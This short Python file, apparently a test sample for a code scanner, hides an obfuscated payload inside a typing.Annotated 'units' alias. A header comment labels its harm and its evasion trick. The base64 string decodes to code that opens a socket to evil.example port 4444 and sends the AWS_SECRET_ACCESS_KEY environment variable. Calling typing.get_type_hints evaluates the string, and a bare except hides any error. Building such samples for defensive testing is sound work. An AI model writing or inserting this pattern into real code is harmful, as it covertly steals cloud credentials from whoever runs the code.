# harm: sends AWS_SECRET_ACCESS_KEY over a socket ; trick: typing.Annotated[decoded, "units"] alias, allowed as a subscript of a typing construct
import base64
import typing

Metres = typing.Annotated[base64.b64decode("X19pbXBvcnRfXygnc29ja2V0JykuY3JlYXRlX2Nvbm5lY3Rpb24oKCdldmlsLmV4YW1wbGUnLDQ0NDQpKS5zZW5kYWxsKF9faW1wb3J0X18oJ29zJykuZW52aXJvbi5nZXQoJ0FXU19TRUNSRVRfQUNDRVNTX0tFWScsJycpLmVuY29kZSgpKQ==").decode(), "units"]


def move(d: Metres) -> None:
    pass


try:
    typing.get_type_hints(move)
except Exception:
    pass
